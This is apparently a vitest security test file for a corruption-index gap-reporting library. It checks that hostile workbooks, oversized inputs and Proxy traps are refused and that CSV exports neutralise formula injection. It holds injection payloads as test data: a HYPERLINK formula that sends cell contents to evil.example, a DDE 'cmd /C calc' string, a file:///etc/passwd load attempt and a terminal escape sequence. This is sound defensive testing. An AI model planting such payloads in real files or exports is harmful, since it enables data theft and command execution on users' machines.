import { pathToFileURL } from 'node:url';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { LIBRARY_ENTRIES } from '../../tsup.config.js';
import { aggregate, CpiGapError, cpiGap, describeValue, ERROR_LIMITS, formatGapReport, gapReport, readTiResults, scenario, sourceGaps, thailand } from '../../src/index.js';
import { formatStatusReport, PROGRESS_STATES, progressTemplate, readProgressCsv, readProgressJson, statusReport } from '../../src/plan/index.js';
import { simulate } from '../../src/simulation/index.js';
import { gapWaterfall } from '../../src/charts/index.js';
import { compileExpression } from '../../src/expr/index.js';
import { toSvg } from '../../src/render/index.js';
import { readTiWorkbook } from '../../src/ti/xlsx.js';
import { csvRecords } from '../../src/util/csv.js';
import { caught, rejected } from '../helpers/caught.js';
import { ROOT } from '../helpers/shared.js';
import { badProgressCsv, sparseXfdWorkbook, tiCsv, whitespaceBombWorkbook } from './cliCases.js';

/** A field a spreadsheet would run: it begins with = + - @, a tab or a carriage return, and is not a plain number (OWASP). */
const runs = (field: string): boolean => /^[=+\-@\t\r]/.test(field) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(field) && field !== '-';

/** The fields of a CSV text a spreadsheet would run as formulas. */
function liveFormulas(csv: string): string[] {
  return csvRecords('test', csv).flat().filter(runs);
}

const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&B2,"details")', '+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const HEADER = 'Project ID,Reporting date,Status,KPI result,Problems and obstacles';

describe('1. hostile workbooks: a CpiGapError at once, whatever the workbook claims', () => {
  it('a header and 3,000 cells in column XFD', async () => {
    const e = await rejected(readTiWorkbook(sparseXfdWorkbook()));
    expect(e.issues[0]?.code).toBe('too_many_columns');
  });

  it('a sheet that inflates to 100 MB of spaces', async () => {
    const e = await rejected(readTiWorkbook(whitespaceBombWorkbook(100)));
    expect(e.issues[0]?.code).toBe('too_large');
  });
});

describe('2. CSV formula injection: every CSV cpi-gap writes is neutralised', () => {
  const progress = (payload: string) => `${HEADER}\nws1-m1.1-p1,2023-03-01,delayed,"${payload.replace(/"/g, '""')}","${payload.replace(/"/g, '""')}"\n`;

  it.each(PAYLOADS)('a progress note %j, from CSV and from JSON, leaves no live formula in any status table', (payload) => {
    const fromCsv = readProgressCsv(progress(payload));
    const fromJson = readProgressJson(JSON.stringify([{ projectId: 'ws1-m1.1-p1', date: '2023-03-01', status: 'delayed', kpiResult: payload, problems: payload }]));
    for (const updates of [fromCsv, fromJson]) {
      const report = statusReport(updates, { asOf: '2023-03-31', locale: 'en' });
      for (const table of ['summary', 'obstacles', 'overdue', 'overBudget'] as const) {
        const csv = formatStatusReport(report, { format: 'csv', table });
        expect(liveFormulas(csv)).toEqual([]);
      }
      const obstacles = formatStatusReport(report, { format: 'csv', table: 'obstacles' });
      // The note is there, as text (a tab or line break around it trimmed): the quote in front of it is all that changed.
      expect(csvRecords('test', obstacles).flat()).toContain(`'${payload.trim()}`);
    }
  });

  it('a TI file whose source header and country name are formulas: the gap report CSV keeps them as text', () => {
    const text = tiCsv('50', '2').replace('World Economic Forum EOS', '=HYPERLINK("https://evil.example")').replace('Alpha', '@evil');
    const { rows } = readTiResults(text, { file: 'evil.csv' });
    expect(rows).toHaveLength(1);
    expect(liveFormulas(formatGapReport(thailand, gapReport(thailand), { format: 'csv', locale: 'en' }))).toEqual([]);
  });

  it('the progress form and the plan-free tables: no live formula either (negative numbers stay numbers)', () => {
    expect(liveFormulas(progressTemplate({ locale: 'th' }))).toEqual([]);
    expect(liveFormulas(progressTemplate({ locale: 'en' }))).toEqual([]);
    const csv = formatGapReport(thailand, gapReport(thailand, { year: 2022 }), { format: 'csv', locale: 'en' });
    expect(liveFormulas(csv)).toEqual([]);
  });
});

describe('4. linear work and bounded messages', () => {
  it('100,000 bad progress rows: one CpiGapError listing 20 issues; checking stops at 1,000 and says so', () => {
    const e = caught(() => readProgressCsv(badProgressCsv(100_000)));
    // Each row is wrong in five fields (project, date, status, percentage, spend): 200 rows give 1,000 issues.
    expect(e.issueCount).toBe(1000);
    expect(e.issues).toHaveLength(ERROR_LIMITS.keptIssues);
    expect(e.issues.at(-1)?.path[0]).toBe('row 201');
    expect(e.message).toMatch(/; and 980 more; checking stopped after 1000 issues: the last 99800 rows were not checked$/);
    expect(e.message.length).toBeLessThan(8_000);
  });

  it('aggregate of a million NaN and of ten million holes: the length is checked first', () => {
    for (const scores of [new Array<number>(1e6).fill(Number.NaN), new Array<number>(1e7)]) {
      const e = caught(() => aggregate(scores, { edition: 2025 }));
      expect(e.message).toMatch(/^aggregate: scores: expected at most 14 sources \(got an array of 10+\)$/);
    }
  });
});

describe('7. rendering a caller spec loads nothing and draws nothing too large', () => {
  it('data.url file:///etc/passwd is refused, nothing read', async () => {
    const spec = { $schema: 'https://vega.github.io/schema/vega-lite/v6.json', data: { url: 'file:///etc/passwd', format: { type: 'csv' } }, mark: 'text', encoding: { text: { field: 'root' } } };
    const e = await rejected(toSvg(spec as never, { onWarning: () => undefined }));
    expect(e.issues[0]?.code).toBe('load_refused');
  });
});

describe('8-10. lists and numbers from files', () => {
  it('8: scenario with 125,000 changes: the limit named, no RangeError', () => {
    const changes = Array.from({ length: 125_000 }, () => ({ kind: 'delta' as const, source: 'VDEM' as const, year: 2026, delta: 0.0001 }));
    expect(caught(() => scenario(thailand, { baseYear: 2025, changes })).message).toBe('scenario: spec.changes: expected at most 10000 items (got an array of 125000)');
  });

  it('10: 1e999 as a standard error and -0 as a score are rejected with their line, never read as Infinity or 0', () => {
    for (const [score, se, reason] of [['50', '1e999', /standardError is not a finite number/], ['-0', '2', /score is not an integer from 0 to 100 \(got "-0"\)/]] as const) {
      const { rows, report } = readTiResults(tiCsv(score, se), { file: 'evil.csv' });
      expect(rows).toEqual([]);
      expect(report.rejected).toHaveLength(1);
      expect(report.rejected[0]?.line).toBe(2);
      expect(report.rejected[0]?.reason).toMatch(reason);
    }
  });
});

describe('11. callbacks', () => {
  it('an async onProgress that rejects: the run rejects with a CpiGapError (vitest fails on any unhandled rejection)', async () => {
    const onProgress = async (): Promise<void> => {
      await Promise.resolve();
      throw new Error('rejected');
    };
    const e = await rejected(simulate(thailand, { paths: 300_000, horizon: 1, threads: 1, onProgress }));
    expect(e.issues[0]?.code).toBe('callback_failed');
  });
});

/** Every object reachable from `value` that is not frozen (zod schemas and functions aside: they are code, not data). */
function unfrozen(value: unknown, path: string, seen: Set<unknown>, out: string[]): number {
  if (value === null || typeof value !== 'object' || seen.has(value) || value instanceof z.core.$ZodType) return 0;
  seen.add(value);
  if (!Object.isFrozen(value)) out.push(path);
  let visited = 1;
  for (const key of Reflect.ownKeys(value)) {
    const d = Object.getOwnPropertyDescriptor(value, key);
    if (d !== undefined && 'value' in d) visited += unfrozen(d.value, `${path}.${String(key)}`, seen, out);
  }
  return visited;
}

describe('12. exported constants are deep-frozen', () => {
  it('every object exported by every entry (src/index.ts and each subpath, world included), all the way down', async () => {
    const out: string[] = [];
    let visited = 0;
    for (const [entry, file] of Object.entries(LIBRARY_ENTRIES)) {
      const module = (await import(/* @vite-ignore */ pathToFileURL(join(ROOT, file)).href)) as Record<string, unknown>;
      for (const [name, value] of Object.entries(module)) visited += unfrozen(value, `${entry}:${name}`, new Set(), out);
    }
    expect(out).toEqual([]);
    // The walk saw the constants, not an empty list: the bundled dataset alone has hundreds of objects.
    expect(visited).toBeGreaterThan(1000);
  });

  it('PROGRESS_STATES.reverse() throws instead of reordering every later status report', () => {
    expect(() => (PROGRESS_STATES as unknown as string[]).reverse()).toThrow(TypeError);
    expect(PROGRESS_STATES[0]).toBe('not-started');
  });
});

describe('13. smaller holes', () => {
  const revoked = Proxy.revocable({}, {});
  revoked.revoke();
  const trap = new Proxy({}, { get: () => { throw new Error('trap'); }, ownKeys: () => { throw new Error('trap'); }, getOwnPropertyDescriptor: () => { throw new Error('trap'); } });

  it('describeValue of a revoked Proxy does not throw', () => {
    expect(describeValue(revoked.proxy)).toBe('an object');
  });

  it('compiled.evaluate(null) and a throwing getter: CpiGapErrors naming the scope', async () => {
    const compiled = await compileExpression('baseline + 1', { variables: ['baseline'] });
    expect(() => compiled.evaluate(null as never)).toThrow(CpiGapError);
    const getter = Object.defineProperty({}, 'baseline', { enumerable: true, get: () => { throw new Error('boom'); } });
    expect(caught(() => compiled.evaluate(getter as never)).message).toBe('evaluate: scope.baseline: the value could not be read: boom');
    expect(caught(() => compiled.evaluate(trap as never)).fn).toBe('evaluate');
  });

  it('throwing getters and Proxies as inputs: CpiGapErrors, not raw exceptions', () => {
    expect(caught(() => aggregate(revoked.proxy as never, { edition: 2025 })).issues[0]?.code).toBe('unreadable_input');
    expect(caught(() => gapReport(thailand, trap as never)).issues[0]?.code).toBe('unreadable_input');
  });

  it('gapWaterfall with neededMean 1e308: refused, never Infinity', () => {
    const e = caught(() => gapWaterfall(sourceGaps(thailand, { year: 2022 }), { ...cpiGap(thailand, { year: 2022 }), neededMean: 1e308 }));
    expect(e.issues[0]?.path).toEqual(['cpi', 'neededMean']);
  });

  it('a progress JSON file with a BOM is read; one with a key twice is refused', () => {
    const json = JSON.stringify([{ projectId: 'ws1-m1.1-p1', date: '2023-03-01', status: 'done' }]);
    expect(readProgressJson(`\uFEFF${json}`)).toHaveLength(1);
    expect(caught(() => readProgressJson('[{"projectId": "ws1-m1.1-p1", "projectId": "ws1-m1.1-p2", "date": "2023-03-01", "status": "done"}]')).message).toMatch(/the key "projectId" appears twice/);
  });

  it('terminal escape sequences in an error message are escaped', () => {
    const e = caught(() => readProgressCsv(`${HEADER}\n\u001b]0;pwned\u0007,2023-03-01,done,,\n`));
    expect(e.message.includes('\u001b') || e.message.includes('\u0007')).toBe(false);
    expect(e.message).toContain('\\u001b]0;pwned\\u0007');
  });
});
